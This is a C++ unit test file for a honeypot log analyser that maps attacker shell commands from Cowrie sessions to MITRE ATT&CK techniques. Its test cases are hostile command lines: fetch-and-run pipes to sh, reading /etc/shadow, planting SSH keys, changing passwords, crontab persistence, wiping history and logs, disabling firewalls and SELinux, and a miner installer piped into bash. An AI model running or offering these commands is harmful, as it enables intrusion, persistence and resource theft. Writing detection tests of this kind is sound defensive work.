// ATT&CK rules (attack.hpp): the command splitter, every built-in technique on lines that show it
// and lines that must not, the order of first use, the rules file's errors, and the attack table.
#include "cb/analysis/attack.hpp"

#include <gtest/gtest.h>

#include <set>
#include <string>
#include <vector>

#include "analysis_fixture.hpp"

namespace {

using cbtest::cat;
using cbtest::ev;
using cbtest::js;

std::vector<std::string> programs_of(std::string_view line) {
    std::vector<cb::SimpleCommand> cmds;
    cb::simple_commands(line, cmds);
    std::vector<std::string> out;
    for (const auto& c : cmds) {
        std::string one = c.program;
        for (const auto& a : c.args) one += " [" + a + "]";
        out.push_back(one);
    }
    return out;
}

TEST(AttackSplit, SeparatorsQuotesWrappersAndSubstitutions) {
    using V = std::vector<std::string>;
    EXPECT_EQ(programs_of("cat /proc/cpuinfo | grep name | wc -l"),
              (V{"cat [/proc/cpuinfo]", "grep [name]", "wc [-l]"}));
    EXPECT_EQ(programs_of("cd ~ && rm -rf .ssh; echo \"a b\" >> .ssh/authorized_keys || x"),
              (V{"cd [~]", "rm [-rf] [.ssh]", "echo [a b] [>>] [.ssh/authorized_keys]", "x"}));
    EXPECT_EQ(programs_of("ls -lh $(which ls)"), (V{"ls [-lh]", "which [ls]"}));
    EXPECT_EQ(programs_of("echo `uname -a`"), (V{"echo", "uname [-a]"}));
    EXPECT_EQ(programs_of("/bin/busybox wget http://x/y"), (V{"wget [http://x/y]"}));
    EXPECT_EQ(programs_of("sudo -u root /usr/bin/crontab -l"), (V{"crontab [-l]"}));
    EXPECT_EQ(programs_of("LANG=C nohup ./xmrig -o pool &"), (V{"xmrig [-o] [pool]"}));
    EXPECT_EQ(programs_of("HISTFILE=/dev/null"), (V{" [HISTFILE=/dev/null]"}));
    EXPECT_EQ(programs_of("uname -a 2>&1 >/dev/null"), (V{"uname [-a] [2>&1] [>/dev/null]"}));
    EXPECT_EQ(programs_of("echo ${HOME}; (id)"), (V{"echo [${HOME}]", "id"}));
    EXPECT_EQ(programs_of("echo 'a;b|c' \"d`e\""), (V{"echo [a;b|c] [d`e]"}));
    EXPECT_EQ(programs_of("/bin/./uname -s\nw"), (V{"uname [-s]", "w"}));
    EXPECT_EQ(programs_of("$SHELL -c \"cd /tmp; sh -c 'id'\""),
              (V{"sh [-c] [cd /tmp; sh -c 'id']", "cd [/tmp]", "sh [-c] [id]", "id"}));
    std::vector<cb::SimpleCommand> cmds;
    cb::simple_commands("curl -s x | base64 -d | sh || sh; a|b", cmds);
    ASSERT_EQ(cmds.size(), 6u);
    EXPECT_EQ(cmds[0].piped_from, "");
    EXPECT_EQ(cmds[1].piped_from, "curl");
    EXPECT_EQ(cmds[2].piped_from, "base64");
    EXPECT_EQ(cmds[3].piped_from, "");  // after ||
    EXPECT_EQ(cmds[5].piped_from, "a");
    EXPECT_TRUE(programs_of("").empty());
    EXPECT_TRUE(programs_of(" ;; && || ").empty());
}

// The techniques the built-in rules see in one session that ran `lines`.
std::vector<std::string> techniques_of_lines(const std::vector<std::string>& lines) {
    std::string log = ev("s", "a1", "203.0.113.9", "cowrie.session.connect", "2024-04-01T10:00:00.000000Z");
    int i = 1;
    for (const auto& l : lines)
        log += ev("s", "a1", "203.0.113.9", "cowrie.command.input", cat("2024-04-01T10:00:0", i++, ".000000Z"),
                  "\"input\":" + js(l));
    cb::StringPool pool;
    std::vector<cb::Session> s = cbtest::ingest(log, pool);
    std::vector<cb::StringPool> pools;
    cb::assign_attack(s, *cb::AttackRules::builtin(), 1, pools);
    std::vector<std::string> out;
    cb::for_each_attack_id(s.at(0).attack, [&](std::string_view id) { out.emplace_back(id); });
    return out;
}

struct Case {
    const char* line;
    std::vector<std::string> expected;  // in order of first use
};

// One line each: what the built-in rules must see, and must not (the near misses).
const Case kCases[] = {
    {"uname -a", {"T1082"}},
    {"cat /proc/cpuinfo | grep name | wc -l", {"T1082"}},
    {"lscpu | grep Model", {"T1082"}},
    {"nproc", {"T1082"}},
    {"free -m | grep Mem", {"T1082"}},
    {"echo uname", {}},
    {"whoami", {"T1033"}},
    {"w", {"T1033"}},
    {"cat /etc/passwd", {"T1087.001"}},
    {"ls /home", {"T1083", "T1087.001"}},
    {"ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata", {"T1083"}},
    {"cat /etc/shadow", {"T1003.008"}},
    {"ps -ef | grep '[Mm]iner'", {"T1057"}},
    {"top", {"T1057"}},
    {"netstat -tulpn", {"T1049"}},
    {"ifconfig", {"T1016"}},
    {"ip a", {"T1016"}},
    {"ip", {}},
    {"cat /etc/resolv.conf", {"T1016"}},
    {"ls -la /tmp", {"T1083"}},
    {"systemctl status sshd", {"T1007"}},
    {"nmap -p 22 10.0.0.0/24", {"T1046"}},
    {"nc -zv 10.0.0.1 22", {"T1046"}},
    {"nc 1 1", {}},
    {"wget http://198.51.100.7/bins.sh", {"T1105"}},
    {"curl -O http://198.51.100.7/x", {"T1105"}},
    {"/bin/busybox tftp -g -r x 198.51.100.7", {"T1105"}},
    {"/bin/busybox wget", {}},
    {"echo aGVsbG8= | base64 -d", {"T1140"}},
    {"base64 file", {}},
    {"sh bins.sh", {"T1059.004"}},
    {"curl http://198.51.100.7/x/3sh | sh", {"T1105", "T1059.004"}},
    {"echo \"IyEv\" | base64 --decode | bash", {"T1140", "T1059.004"}},
    {"nohup $SHELL -c \"curl http://198.51.100.7/l -o /tmp/y; chmod +x /tmp/y && /tmp/y\" &",
     {"T1059.004", "T1105", "T1222.002"}},
    {"sh", {}},
    {"chmod +x bins.sh", {"T1222.002"}},
    {"chattr -ia .ssh", {"T1222.002"}},
    {"chmod", {}},
    {"echo \"ssh-rsa AAAA x\" >> .ssh/authorized_keys", {"T1098.004"}},
    {"cat .ssh/authorized_keys", {}},
    {"chattr -ia ~/.ssh/authorized_keys", {"T1222.002"}},
    {"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa A\" >> .ssh/authorized_keys", {"T1098.004"}},
    {"echo \"root:Xz81bq0Ye\" | chpasswd", {"T1098"}},
    {"passwd", {"T1098"}},
    {"echo -e \"nokia123\\n8uH8\\n8uH8\"|passwd|bash", {"T1098"}},
    {"echo root:x|chpasswd|bash", {"T1098"}},
    {"useradd -m -p x system", {"T1136.001"}},
    {"(crontab -l; echo \"* * * * * /tmp/x\") | crontab -", {"T1053.003"}},
    {"crontab -l", {}},
    {"systemctl enable evil.service", {"T1543.002"}},
    {"update-rc.d evil defaults", {"T1037.004"}},
    {"history -c", {"T1070.003"}},
    {"unset HISTFILE", {"T1070.003"}},
    {"export HISTFILE=/dev/null", {"T1070.003"}},
    {"HISTSIZE=0", {"T1070.003"}},
    {"history", {}},
    {"rm -rf /var/log/wtmp", {"T1070.002", "T1070.004"}},
    {"rm -rf .s", {"T1070.004"}},
    {"cat /dev/null >/root/.bash_history; cat /dev/null > /var/log/wtmp", {"T1070.003", "T1070.002"}},
    {"setenforce 0", {"T1562.001"}},
    {"rm -rf /usr/local/aegis", {"T1562.001", "T1070.004"}},
    {"service apparmor stop", {"T1562.001", "T1489"}},
    {"systemctl status apparmor", {"T1007"}},
    {"iptables -F", {"T1562.004"}},
    {"ufw disable", {"T1562.004"}},
    {"systemctl stop firewalld", {"T1562.004", "T1489"}},
    {"iptables -L", {}},
    {"reboot", {"T1529"}},
    {"./xmrig -o stratum+tcp://pool:3333 -u x", {"T1496.001"}},
    {"curl -s -L http://download.c3pool.org/xmrig_setup/raw/master/setup.sh | bash -s x",
     {"T1105", "T1059.004", "T1496.001"}},
    {"pkill -9 xmrig", {}},
    {"ps aux | grep -i XMRIG", {"T1057"}},
    {"echo -e \"\\x6F\\x6B\"", {}},
    {"/bin/busybox ECCHI", {}},
    {"enable", {}},
};

// In rules order within one line: sort both sides (order across lines is tested below).
TEST(AttackRules, BuiltInRulesOnLinesThatShowATechniqueAndNearMisses) {
    for (const Case& c : kCases) {
        auto got = techniques_of_lines({c.line});
        auto want = c.expected;
        std::sort(got.begin(), got.end());
        std::sort(want.begin(), want.end());
        EXPECT_EQ(got, want) << c.line;
    }
}

TEST(AttackRules, EveryBuiltInTechniqueIsTested) {
    std::set<std::string> tested;
    for (const Case& c : kCases) tested.insert(c.expected.begin(), c.expected.end());
    // Shown by events, not commands (OrderOfFirstUseAcrossEvents).
    for (const char* id : {"T1110", "T1090", "T1546.004"}) tested.insert(id);
    for (const auto& t : cb::AttackRules::builtin()->techniques()) EXPECT_TRUE(tested.count(t.id)) << t.id;
}

TEST(AttackRules, OrderOfFirstUseAcrossEvents) {
    const std::string ip = "203.0.113.9";
    std::string log = ev("s", "b1", ip, "cowrie.session.connect", "2024-04-01T10:00:00.000000Z");
    log += ev("s", "b1", ip, "cowrie.login.failed", "2024-04-01T10:00:01.000000Z",
              "\"username\":\"root\",\"password\":\"x\"");
    log += ev("s", "b1", ip, "cowrie.login.success", "2024-04-01T10:00:02.000000Z",
              "\"username\":\"root\",\"password\":\"y\"");
    log += ev("s", "b1", ip, "cowrie.command.input", "2024-04-01T10:00:03.000000Z", "\"input\":\"uname -a\"");
    log += ev("s", "b1", ip, "cowrie.session.file_download", "2024-04-01T10:00:04.000000Z",
              "\"url\":\"http://198.51.100.7/x\",\"outfile\":\"var/lib/cowrie/downloads/ab\",\"shasum\":\"ab\"");
    log += ev("s", "b1", ip, "cowrie.session.file_download", "2024-04-01T10:00:05.000000Z",
              "\"destfile\":\"/root/.bashrc\",\"outfile\":\"var/lib/cowrie/downloads/cd\",\"shasum\":\"cd\"");
    log += ev("s", "b1", ip, "cowrie.direct-tcpip.request", "2024-04-01T10:00:06.000000Z",
              "\"dst_ip\":\"198.51.100.8\",\"dst_port\":25,\"src_ip\":\"127.0.0.1\",\"src_port\":5000");
    log += ev("s", "b1", ip, "cowrie.command.input", "2024-04-01T10:00:07.000000Z", "\"input\":\"uname; whoami\"");
    cb::StringPool pool;
    std::vector<cb::Session> s = cbtest::ingest(log, pool);
    std::vector<cb::StringPool> pools;
    cb::assign_attack(s, *cb::AttackRules::builtin(), 1, pools);
    ASSERT_EQ(s.size(), 1u);
    EXPECT_EQ(s[0].attack, "T1110,T1082,T1105,T1546.004,T1090,T1033");
}

std::string rules_error(const std::string& toml) {
    std::string err;
    EXPECT_EQ(cb::AttackRules::parse(toml, "my.toml", &err), nullptr) << toml;
    return err;
}

TEST(AttackRules, ErrorsNameTheLineAndTheProblem) {
    const std::string head = "attack_version = \"18.1\"\n[[technique]]\nid = \"T1082\"\nname = \"x\"\n";
    EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\n[[technique.command]]\nprogram = [\"uname\"]\n"),
              "my.toml:7:11: unknown key program");
    EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\n"),
              "my.toml:2:1: technique T1082 has no rule: it could never match");
    EXPECT_EQ(rules_error(head + "tactics = []\ndownloads = true\n"), "my.toml:2:1: technique T1082 has no tactics");
    EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\ndownloads = \"yes\"\n"),
              "my.toml:6:13: downloads must be true or false");
    EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\nmin_login_attempts = -1\n"),
              "my.toml:6:22: min_login_attempts must be a whole number, 0 or more");
    EXPECT_EQ(rules_error(head + "tactics = [\"d\"]\nfile_writes = [\"boot\"]\n"),
              "my.toml:2:1: file_writes: unknown persistence kind boot");
    EXPECT_EQ(rules_error("attack_version = \"18.1\"\n[[technique]]\nid = \"X1\"\nname = \"x\"\ntactics = [\"d\"]\n"
                          "tcpip = true\n"),
              "my.toml:2:1: technique id X1 is not of the form T1234 or T1234.001");
    EXPECT_EQ(
        rules_error(head + "tactics = [\"d\"]\ntcpip = true\n" + head.substr(24) + "tactics = [\"d\"]\ntcpip = true\n"),
        "my.toml:7:1: technique T1082 appears twice");
    EXPECT_EQ(rules_error("[[technique]\n"), "my.toml:1:13: Error while parsing table header: expected ']', saw '\\n'");
    EXPECT_EQ(rules_error("attack_version = \"18.1\"\n"), "my.toml: no [[technique]]");
    EXPECT_EQ(rules_error("technique = 1\n"), "my.toml:1:1: missing attack_version");
    // Rules files are ASCII (toml++ 3.3.0 misreads some other characters): escapes in strings.
    EXPECT_EQ(rules_error("attack_version = \"1\" # caf\xc3\xa9\n"),
              "my.toml:1:27: a byte above 0x7F; rules files are ASCII (write other characters in strings as \\uXXXX)");
    std::string err;
    const auto escaped = cb::AttackRules::parse(
        "attack_version = \"1\"\n[[technique]]\nid = \"T1082\"\nname = \"caf\\u00e9\"\ntactics = [\"d\"]\n"
        "downloads = true\n",
        "ok.toml", &err);
    ASSERT_NE(escaped, nullptr) << err;
    EXPECT_EQ(escaped->techniques()[0].name, "caf\xc3\xa9");
}

TEST(AttackRules, OwnRulesWithEveryKindOfCommandCondition) {
    std::string err;
    const auto rules = cb::AttackRules::parse(R"(attack_version = "18.1"
[[technique]]
id = "T1000"
name = "case"
tactics = ["x"]
[[technique.command]]
args = ["evil"]
ignore_case = true
not_programs = ["grep"]
[[technique]]
id = "T2000"
name = "args"
tactics = ["x"]
[[technique.command]]
programs = ["tool"]
min_args = 2
not_args = ["--dry"]
[[technique]]
id = "T3000"
name = "paths"
tactics = ["x"]
file_write_paths = ["/srv/"]
)",
                                              "own.toml", &err);
    ASSERT_NE(rules, nullptr) << err;
    std::string log = ev("s", "c1", "203.0.113.9", "cowrie.session.connect", "2024-04-01T10:00:00.000000Z");
    int t = 1;
    auto line = [&](const char* input) {
        log += ev("s", "c1", "203.0.113.9", "cowrie.command.input", cat("2024-04-01T10:00:0", t++, ".000000Z"),
                  "\"input\":" + js(input));
    };
    line("grep EVIL x");     // not_programs
    line("tool a --dry b");  // not_args
    line("tool a");          // min_args
    line("run EvIl");        // ignore_case
    line("tool a b");        // T2000
    log += ev("s", "c1", "203.0.113.9", "cowrie.session.file_download", "2024-04-01T10:00:08.000000Z",
              "\"destfile\":\"/srv/www/x.php\",\"outfile\":\"o\",\"shasum\":\"ee\"");
    cb::StringPool pool;
    std::vector<cb::Session> s = cbtest::ingest(log, pool);
    std::vector<cb::StringPool> pools;
    cb::assign_attack(s, *rules, 1, pools);
    EXPECT_EQ(s.at(0).attack, "T1000,T2000,T3000");
}

TEST(AttackTable, CountsEachSessionOncePerTechniqueAndMerges) {
    std::string log;
    for (int i = 0; i < 6; ++i) {
        const std::string id = cat("d", i), ip = cat("203.0.113.", i % 2);
        log += ev("s", id, ip, "cowrie.session.connect", cat("2024-04-0", i + 1, "T10:00:00.000000Z"));
        log += ev("s", id, ip, "cowrie.command.input", cat("2024-04-0", i + 1, "T10:00:01.000000Z"),
                  i < 4 ? "\"input\":\"uname; uname -a\"" : "\"input\":\"wget http://198.51.100.7/x\"");
    }
    cb::StringPool pool;
    std::vector<cb::Session> s = cbtest::ingest(log, pool);
    std::vector<cb::StringPool> pools;
    cb::assign_attack(s, *cb::AttackRules::builtin(), 1, pools);
    const cb::Findings f = cbtest::run_one("attack", s);
    const cb::Table* t = cbtest::table(f, "attack");
    ASSERT_NE(t, nullptr);
    ASSERT_EQ(t->rows.size(), 2u);
    EXPECT_EQ(cbtest::text(t->rows[0][cbtest::col(*t, "technique")]), "T1082");
    EXPECT_EQ(cbtest::text(t->rows[0][cbtest::col(*t, "sessions")]), "4");
    EXPECT_EQ(cbtest::text(t->rows[0][cbtest::col(*t, "src_ips")]), "2");
    EXPECT_EQ(cbtest::text(t->rows[0][cbtest::col(*t, "name")]), "System Information Discovery");
    EXPECT_EQ(cbtest::text(t->rows[0][cbtest::col(*t, "first_seen")]), "2024-04-01T10:00:00.000000Z");
    EXPECT_EQ(cbtest::text(t->rows[1][cbtest::col(*t, "technique")]), "T1105");
    EXPECT_EQ(cbtest::text(t->rows[1][cbtest::col(*t, "tactics")]), "command-and-control");
    const cb::Table* w = cbtest::table(f, "attack_weekly");
    ASSERT_NE(w, nullptr);
    std::uint64_t total = 0;
    for (const auto& r : w->rows) total += std::stoull(cbtest::text(r[cbtest::col(*w, "sessions")]));
    EXPECT_EQ(total, 6u);
    cbtest::expect_mergeable("attack", s, cb::AnalysisConfig{});

    const std::string layer = cb::attack_layer_json(t, *cb::AttackRules::builtin());
    EXPECT_NE(layer.find("\"domain\":\"enterprise-attack\""), std::string::npos);
    EXPECT_NE(layer.find("\"layer\":\"4.5\""), std::string::npos);
    EXPECT_NE(layer.find("{\"techniqueID\":\"T1082\",\"tactic\":\"discovery\",\"score\":4,"), std::string::npos);
    EXPECT_NE(layer.find("\"maxValue\":4"), std::string::npos);
    EXPECT_EQ(cb::attack_layer_json(nullptr, *cb::AttackRules::builtin()), "");
}

}  // namespace

namespace {

// Sessions from three addresses, two of them looked up (as assign_geo() would set them).
std::vector<cb::Session> geo_sessions(cb::StringPool& pool) {
    std::string log;
    for (int i = 0; i < 9; ++i) {
        const std::string id = cat("g", i), ip = cat("203.0.113.", i % 3);
        log += ev("s", id, ip, "cowrie.session.connect", cat("2024-04-0", i + 1, "T10:00:00.000000Z"));
        log += ev("s", id, ip, "cowrie.login.success", cat("2024-04-0", i + 1, "T10:00:01.000000Z"),
                  "\"username\":\"root\",\"password\":\"x\"");
    }
    std::vector<cb::Session> s = cbtest::ingest(log, pool);
    for (auto& x : s) {
        x.geo = true;
        if (x.src_ip.ends_with(".0")) x.country = "AU", x.asn = 64500, x.as_org = "Example";
        if (x.src_ip.ends_with(".1")) x.country = "DE";
    }
    return s;
}

}  // namespace

TEST(SourcesGeo, CountsPerCountryAndAsAndMerges) {
    cb::StringPool pool;
    const std::vector<cb::Session> s = geo_sessions(pool);
    const cb::Findings f = cbtest::run_one("sources_geo", s);
    const cb::Table* c = cbtest::table(f, "sources_by_country");
    ASSERT_NE(c, nullptr);
    ASSERT_EQ(c->rows.size(), 3u);  // AU, DE and unknown, 3 sessions each: by country code on ties
    EXPECT_EQ(cbtest::text(c->rows[0][0]), "");
    EXPECT_EQ(cbtest::text(c->rows[1][0]), "AU");
    EXPECT_EQ(cbtest::text(c->rows[1][cbtest::col(*c, "login_successes")]), "3");
    const cb::Table* a = cbtest::table(f, "sources_by_asn");
    ASSERT_NE(a, nullptr);
    EXPECT_EQ(cbtest::rows_where(*a, "asn", "64500").size(), 1u);
    cbtest::expect_mergeable("sources_geo", s, cb::AnalysisConfig{});
    // Not looked up (no --geoip): no table at all.
    std::vector<cb::Session> plain = s;
    for (auto& x : plain) x.geo = false;
    EXPECT_EQ(cbtest::run_one("sources_geo", plain).table("sources_by_country"), nullptr);
}

TEST(Iocs, OnlyShareableSourcesThatLoggedInAndMerges) {
    cb::StringPool pool;
    std::string log;
    const char* ips[] = {"203.0.113.7", "10.0.0.1", "127.0.0.1", "2001:db8::9"};
    for (int i = 0; i < 4; ++i) {
        const std::string id = cat("i", i);
        log += ev("s", id, ips[i], "cowrie.session.connect", cat("2024-04-0", i + 1, "T10:00:00.000000Z"));
        log += ev("s", id, ips[i], "cowrie.login.success", cat("2024-04-0", i + 1, "T10:00:01.000000Z"),
                  "\"username\":\"root\",\"password\":\"x\"");
        log += ev(
            "s", id, ips[i], "cowrie.session.file_download", cat("2024-04-0", i + 1, "T10:00:02.000000Z"),
            i % 2 ? "\"url\":\"http://192.168.0.9/x\",\"outfile\":\"o\",\"shasum\":\"zz\""
                  : "\"url\":\"http://198.51.100.7/x\",\"outfile\":\"o\",\"shasum\":\"" + std::string(64, 'e') + "\"");
    }
    const std::vector<cb::Session> s = cbtest::ingest(log, pool);
    const cb::Findings f = cbtest::run_one("iocs", s);
    ASSERT_TRUE(f.iocs.has_value());
    std::vector<std::string> got;
    for (const auto& r : *f.iocs) got.push_back(r.type + " " + r.value + " " + std::to_string(r.sessions));
    EXPECT_EQ(got, (std::vector<std::string>{"sha256 " + std::string(64, 'e') + " 2", "src_ip 2001:db8::9 1",
                                             "src_ip 203.0.113.7 1", "url http://198.51.100.7/x 2"}));
    // Split and merged (expect_mergeable compares tables, and the rows are no table).
    auto a = cbtest::analysis_named("iocs"), b = cbtest::analysis_named("iocs");
    cbtest::feed(*a, {&s[0], &s[3]});
    cbtest::feed(*b, {&s[1], &s[2]});
    b->merge(std::move(*a));
    cb::Findings merged;
    b->finish(cb::AnalysisConfig{}, merged);
    std::vector<std::string> again;
    for (const auto& r : *merged.iocs) again.push_back(r.type + " " + r.value + " " + std::to_string(r.sessions));
    EXPECT_EQ(again, got);
}
